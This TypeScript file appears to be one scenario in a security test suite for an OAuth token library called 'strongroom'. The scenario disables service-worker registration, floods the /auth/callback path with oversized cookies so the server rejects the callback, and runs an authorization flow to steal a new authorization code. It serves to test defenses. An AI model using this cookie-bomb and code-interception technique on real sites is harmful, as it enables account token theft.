import { attack, type Payload } from "../attack.js";

const hook: Payload = (it) => {
  ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
  const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
  const look = () => {
    it.steal(location.href, document.referrer, performance.getEntries());
    it.steal((navigation?.entries() ?? []).map(({ url }) => url));
  };
  look();
  addEventListener("pageshow", look);
};

const payload: Payload = async (it) => {
  // More cookies than the server accepts, for the callback's path only.
  for (let sent = 0; sent < 21_000; sent += 3_500) {
    // biome-ignore lint/suspicious/noDocumentCookie: the attack itself
    document.cookie = `bomb${sent}=${"x".repeat(3_450)}; path=/auth/callback`;
  }
  location.assign(it.authorizationUrl());
  await it.pause(1_000);
};

const refusedCallback = attack({
  name: "unregisters the worker, sets cookies so that the host rejects the callback, and runs a silent flow in the top page",
  threat: "acquisition of new tokens",
  target: "strongroom",
  wantsCode: true,
  leavesWorkers: true,
  hook,
  payload,
  async play(stage) {
    const { browser } = stage;
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([refusedCallback]);
    await stage.unregisterWorkers();
    await stage.openUnconnected();
    await stage.injectAndLeaveFor("/auth/");
    // The user returns to the app, where the script runs again.
    await stage.openUnconnected();
    await browser.evaluate(() => history.back());
    await stage.openUnconnected();
    await browser.evaluate(() => {
      for (let sent = 0; sent < 21_000; sent += 3_500) {
        // biome-ignore lint/suspicious/noDocumentCookie: the attack itself
        document.cookie = `bomb${sent}=; path=/auth/callback; max-age=0`;
      }
    });
  },
});

export default refusedCallback;
